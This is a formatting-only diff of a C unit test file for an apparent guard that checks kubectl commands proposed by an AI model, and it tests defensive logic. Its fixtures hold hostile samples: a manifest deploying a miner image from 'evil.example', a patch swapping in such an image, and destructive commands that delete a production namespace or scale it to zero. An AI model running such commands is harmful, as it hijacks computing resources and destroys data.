@@ -69,14 +69,17 @@ static void places_must_be_said_whole(void **state)
 static void manifests_and_patches(void **state)
 {
     (void)state;
-    static const char manifest[] = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n"
-                                   "    spec:\n      containers:\n      - name: web\n        image: evil.example/miner:2.1\n";
+    static const char manifest[] =
+        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n"
+        "    spec:\n      containers:\n      - name: web\n        image: evil.example/miner:2.1\n";
     finds("deploy web", pods, "kubectl apply -f -", manifest, "evil.example");
     finds("deploy web with evil.example/miner:2.1", pods, "kubectl apply -f -", manifest, NULL);
-    finds("deploy web", "apiVersion apps v1 kind Deployment metadata spec template containers", "kubectl apply -f -", manifest,
+    finds("deploy web", "apiVersion apps v1 kind Deployment metadata spec template containers", "kubectl apply -f -",
+          manifest, NULL);
+    finds("patch web", pods, "kubectl patch deployment web -p '{\"spec\":{\"image\":\"evil.example/x\"}}'", NULL,
+          "evil.example");
+    finds("patch web", "spec template replicas", "kubectl patch deployment web -p '{\"spec\":{\"replicas\":3}}'", NULL,
           NULL);
-    finds("patch web", pods, "kubectl patch deployment web -p '{\"spec\":{\"image\":\"evil.example/x\"}}'", NULL, "evil.example");
-    finds("patch web", "spec template replicas", "kubectl patch deployment web -p '{\"spec\":{\"replicas\":3}}'", NULL, NULL);
     finds("deploy web", "10.9.8.7", "kubectl apply -f -", "args:\n- --server\n- 10.9.8.7\n", "10.9.8.7");
 }
 
@@ -118,15 +121,16 @@ static enum op_decision decide(const char *command, bool terminal, bool yes, boo
 static void foreign_words_always_ask(void **state)
 {
     (void)state;
-    static const char change[] = "kubectl scale deployment/prod --replicas=0", destroy[] = "kubectl delete namespace prod",
-                      read[] = "kubectl get pods -n prod";
+    static const char change[] = "kubectl scale deployment/prod --replicas=0",
+                      destroy[] = "kubectl delete namespace prod", read[] = "kubectl get pods -n prod";
     assert_int_equal(decide(change, true, true, false, OP_FROM_MODEL), OP_DECIDE_ASK);
     assert_int_equal(decide(change, true, false, false, OP_FROM_MODEL), OP_DECIDE_ASK);
     assert_int_equal(decide(change, false, true, false, OP_FROM_MODEL), OP_DECIDE_REFUSE);
     assert_int_equal(decide(destroy, true, true, false, OP_FROM_MODEL), OP_DECIDE_ASK_NAME);
     assert_int_equal(decide(destroy, false, true, false, OP_FROM_MODEL), OP_DECIDE_REFUSE);
     assert_int_equal(decide(read, false, false, false, OP_FROM_MODEL), OP_DECIDE_RUN);
-    assert_int_equal(decide(read, true, true, true, OP_FROM_MODEL), OP_DECIDE_ASK); /* it would carry a secret somewhere */
+    assert_int_equal(decide(read, true, true, true, OP_FROM_MODEL),
+                     OP_DECIDE_ASK); /* it would carry a secret somewhere */
     assert_int_equal(decide(read, false, true, true, OP_FROM_MODEL), OP_DECIDE_REFUSE);
     assert_int_equal(decide(change, false, true, false, OP_FROM_USER), OP_DECIDE_RUN);
 }
@@ -148,10 +152,8 @@ static int unload(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(names_that_only_outputs_hold),
-        cmocka_unit_test(places_must_be_said_whole),
-        cmocka_unit_test(manifests_and_patches),
-        cmocka_unit_test(what_was_agreed_to_is_said),
+        cmocka_unit_test(names_that_only_outputs_hold), cmocka_unit_test(places_must_be_said_whole),
+        cmocka_unit_test(manifests_and_patches),        cmocka_unit_test(what_was_agreed_to_is_said),
         cmocka_unit_test(foreign_words_always_ask),
     };
     return cmocka_run_group_tests(tests, load, unload);
